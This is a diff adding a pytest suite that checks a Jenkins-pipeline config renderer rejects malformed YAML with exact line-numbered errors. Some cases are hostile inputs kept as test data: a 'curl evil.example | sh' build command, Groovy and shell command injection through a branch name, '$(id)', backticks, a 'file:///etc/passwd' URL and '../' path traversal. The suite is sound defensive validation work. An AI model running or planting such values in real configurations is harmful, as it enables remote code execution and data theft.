@@ -1,0 +1,184 @@
+"""Bad configuration files: each gets exact one-line messages naming file, line and key, exit 1.
+
+The base file below is valid; each case replaces or inserts lines and states, written by hand from
+the message format in the README, what ``render`` must print.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from enadu_pipelines.cli import main
+
+BASE = """\
+version: 1
+library:
+  version: v1.0.0
+  repository: https://github.com/enadu/enadu-pipelines.git
+registry:
+  host: registry.example.com
+  credentials_id: reg
+kubernetes:
+  credentials_id: kube
+discord:
+  credentials_id: hook
+services:
+  backend:
+    kind: gradle
+    repository: https://github.com/enadu/enadu.git
+    branch: be-dev
+    paths: ["backend/**", "common/**"]
+    image:
+      name: enadu/backend
+"""
+# line numbers in BASE:  3 library.version, 6 registry.host, 9 kubernetes.credentials_id,
+# 13 services.backend, 14 kind, 15 repository, 16 branch, 17 paths, 18 image, 19 image.name
+
+
+def replace(line: int, text: str) -> str:
+    lines = BASE.splitlines()
+    lines[line - 1] = text
+    return "\n".join(lines) + "\n"
+
+
+def insert(after: int, text: str) -> str:
+    lines = BASE.splitlines()
+    lines[after:after] = text.splitlines()
+    return "\n".join(lines) + "\n"
+
+
+CASES = [
+    pytest.param(replace(16, """    branch: "be-dev'; sh 'touch /tmp/x\""""),
+                 ["bad.yaml:16: services.backend.branch: \"be-dev'; sh 'touch /tmp/x\" is not a git branch name"
+                  " (letters, digits and . _ / -)"], id="branch-groovy-injection"),
+    pytest.param(replace(17, '    paths: ["$(id)"]'),
+                 ["bad.yaml:17: services.backend.paths[0]: '$(id)' is not a path glob relative to the repository"
+                  " root (letters, digits, . _ - / and the wildcards * ** ?)"], id="paths-shell-substitution"),
+    pytest.param(replace(16, "    brnach: be-dev"),
+                 ["bad.yaml:13: services.backend.branch: required key is missing",
+                  "bad.yaml:16: services.backend.brnach: unknown key (did you mean 'branch'?)"], id="typo-did-you-mean"),
+    pytest.param(replace(12, "servces:"),
+                 ["bad.yaml:1: services: required key is missing",
+                  "bad.yaml:12: servces: unknown key (did you mean 'services'?)"], id="top-level-typo"),
+    pytest.param(insert(9, "  flavour: blue"),
+                 ["bad.yaml:10: kubernetes.flavour: unknown key (allowed: container_port, credentials_id,"
+                  " deploy_timeout, health_path, namespace, old_colour, replicas, resources, scale_down_delay,"
+                  " smoke_test)"], id="unknown-key-lists-allowed"),
+    pytest.param(insert(9, '  replicas: "2"'),
+                 ["bad.yaml:10: kubernetes.replicas: expected a whole number, got text"], id="number-as-text"),
+    pytest.param(insert(9, "  replicas: 0"),
+                 ["bad.yaml:10: kubernetes.replicas: Input should be greater than or equal to 1"], id="replicas-zero"),
+    pytest.param(replace(14, "    kind: rust"),
+                 ["bad.yaml:14: services.backend.kind: Input should be 'gradle' or 'node'"], id="unknown-kind"),
+    pytest.param(replace(19, "      name: Enadu/Backend"),
+                 ["bad.yaml:19: services.backend.image.name: 'Enadu/Backend' is not a Docker image repository name"
+                  " (lower-case path components such as 'enadu/backend', no tag)"], id="image-uppercase"),
+    pytest.param(insert(17, "    build:\n      commands: ['./gradlew build; curl evil.example | sh']"),
+                 ["bad.yaml:19: services.backend.build.commands[0]: './gradlew build; curl evil.example | sh' is not"
+                  " a simple command (words of letters, digits and . _ / : = @ % + , - separated by spaces; no quotes,"
+                  " $, ;, |, &, redirections or backticks)"], id="command-chaining"),
+    pytest.param(insert(17, "    build:\n      commands: ['npm run `id`']"),
+                 ["bad.yaml:19: services.backend.build.commands[0]: 'npm run `id`' is not a simple command (words of"
+                  " letters, digits and . _ / : = @ % + , - separated by spaces; no quotes, $, ;, |, &, redirections"
+                  " or backticks)"], id="command-backticks"),
+    pytest.param(replace(7, "  credentials_id: my registry"),
+                 ["bad.yaml:7: registry.credentials_id: 'my registry' is not a Jenkins credentials id (letters, digits"
+                  " and . _ -)"], id="credentials-id-space"),
+    pytest.param(replace(15, "    repository: file:///etc/passwd"),
+                 ["bad.yaml:15: services.backend.repository: 'file:///etc/passwd' is not a git repository URL"
+                  " (https://host/org/repo.git, ssh://git@host/org/repo.git or git@host:org/repo.git)"],
+                 id="repository-file-url"),
+    pytest.param(replace(13, "  Backend:"),
+                 ["bad.yaml:13: services.Backend: 'Backend' is not a service name (lower-case letters, digits and '-',"
+                  " starting with a letter, at most 40 characters)"], id="service-name-uppercase"),
+    pytest.param(insert(16, "    branch: main"),
+                 ["bad.yaml:17: services.backend.branch: duplicate key (first given on line 16)"], id="duplicate-key"),
+    pytest.param(replace(1, "version: 2"),
+                 ["bad.yaml:1: version: Input should be 1"], id="wrong-version"),
+    pytest.param(insert(9, "  health_path: actuator/health"),
+                 ["bad.yaml:10: kubernetes.health_path: 'actuator/health' is not an HTTP path starting with '/'"
+                  " (letters, digits and . _ ~ / -)"], id="health-path-relative"),
+    pytest.param(insert(9, "  scale_down_delay: 30 seconds"),
+                 ["bad.yaml:10: kubernetes.scale_down_delay: '30 seconds' is not a duration such as '30s', '10m' or"
+                  " '1h'"], id="duration-words"),
+    pytest.param(replace(17, '    paths: ["backend/../secrets/**"]'),
+                 ["bad.yaml:17: services.backend.paths[0]: 'backend/../secrets/**' is not a path glob relative to"
+                  " the repository root (letters, digits, . _ - / and the wildcards * ** ?): path segments may not be"
+                  " empty, '.' or '..'"], id="glob-dotdot"),
+    pytest.param(replace(17, '    paths: ["backend/**.java"]'),
+                 ["bad.yaml:17: services.backend.paths[0]: 'backend/**.java' is not a path glob relative to the"
+                  " repository root (letters, digits, . _ - / and the wildcards * ** ?): '**' must be a whole path"
+                  " segment, as in 'common/**'"], id="glob-partial-doublestar"),
+    pytest.param(replace(16, "    branch: feature..x"),
+                 ["bad.yaml:16: services.backend.branch: 'feature..x' is not a git branch name (letters, digits and"
+                  " . _ / -): git does not allow '..', '//', '/.' or a trailing '.', '/' or '.lock'"],
+                 id="branch-dotdot"),
+    pytest.param(insert(19, "  batch:\n    kind: gradle\n    repository: https://github.com/enadu/enadu.git\n"
+                            "    branch: be-dev\n    paths: ['batch/**']\n    image:\n      name: enadu/backend"),
+                 ["bad.yaml:12: services: services 'backend' and 'batch' use the same image 'enadu/backend'"],
+                 id="same-image-twice"),
+    pytest.param(insert(15, "    description: \"Enadu\\nbackend\""),
+                 ["bad.yaml:16: services.backend.description: 'Enadu\\nbackend' is not text on one line:"
+                  " control characters (including newlines) are not allowed"], id="description-newline"),
+    pytest.param(insert(11, "  mention_role_on_failure: '123'"),
+                 ["bad.yaml:12: discord.mention_role_on_failure: '123' is not a Discord role id (17 to 20 digits)"],
+                 id="role-id-short"),
+    pytest.param(insert(17, "    test:\n      enabled: 'yes'"),
+                 ["bad.yaml:19: services.backend.test.enabled: expected true or false, got text"], id="bool-as-text"),
+    pytest.param("- version: 1\n",
+                 ["bad.yaml:1: the file must be a mapping of keys such as 'version' and 'services'"], id="not-a-mapping"),
+    pytest.param(BASE.replace("    image:\n      name: enadu/backend\n", "    image: enadu/backend\n"),
+                 ["bad.yaml:18: services.backend.image: expected a mapping, got text"], id="scalar-for-section"),
+]
+
+
+@pytest.mark.parametrize("text, expected", CASES)
+def test_bad_config_is_reported_on_its_line(tmp_path: Path, runner, text: str, expected: list[str]) -> None:
+    (tmp_path / "bad.yaml").write_text(text, "utf-8")
+    result = runner.invoke(main, ["render", "--config", str(tmp_path / "bad.yaml"), "--out", str(tmp_path / "out")])
+    assert result.exit_code == 1, result.output
+    prefix = str(tmp_path) + "/"
+    assert [line.replace(prefix, "") for line in result.stderr.splitlines()] == [f"error: {e}" for e in expected]
+    assert result.stdout == ""
+    assert not (tmp_path / "out").exists(), "nothing may be written for a bad config"
+
+
+def test_invalid_yaml_names_the_line(tmp_path: Path, runner) -> None:
+    (tmp_path / "bad.yaml").write_text(replace(17, '    paths: ["backend/**", "common/**"'), "utf-8")
+    result = runner.invoke(main, ["render", "--config", str(tmp_path / "bad.yaml")])
+    assert result.exit_code == 1
+    [line] = result.stderr.splitlines()
+    assert line.startswith(f"error: {tmp_path}/bad.yaml:18: invalid YAML: ")
+
+
+def test_missing_file(tmp_path: Path, runner) -> None:
+    result = runner.invoke(main, ["render", "--config", str(tmp_path / "nope.yaml")])
+    assert result.exit_code == 1
+    assert result.stderr == f"error: {tmp_path}/nope.yaml: no such file (pass --config FILE)\n"
+
+
+def test_not_utf8(tmp_path: Path, runner) -> None:
+    (tmp_path / "bad.yaml").write_bytes(BASE.encode() + b"# caf\xe9\n")
+    result = runner.invoke(main, ["render", "--config", str(tmp_path / "bad.yaml")])
+    assert result.exit_code == 1
+    assert result.stderr == f"error: {tmp_path}/bad.yaml:20: file is not valid UTF-8\n"
+
+
+def test_config_is_a_directory(tmp_path: Path, runner) -> None:
+    (tmp_path / "dir.yaml").mkdir()
+    result = runner.invoke(main, ["render", "--config", str(tmp_path / "dir.yaml")])
+    assert result.exit_code in (1, 2)  # click itself refuses a directory for a dir_okay=False path
+    assert "dir.yaml" in result.stderr and "Traceback" not in result.output
+
+
+def test_base_config_is_valid(tmp_path: Path, runner) -> None:
+    """The cases above fail because of their one change, not because the base is wrong."""
+    from conftest import seed_bundle
+
+    (tmp_path / "good.yaml").write_text(BASE, "utf-8")
+    seed_bundle(tmp_path)
+    result = runner.invoke(main, ["render", "--config", str(tmp_path / "good.yaml")])
+    assert result.exit_code == 0, result.output
+    assert (tmp_path / "pipelines" / "backend" / "Jenkinsfile").is_file()
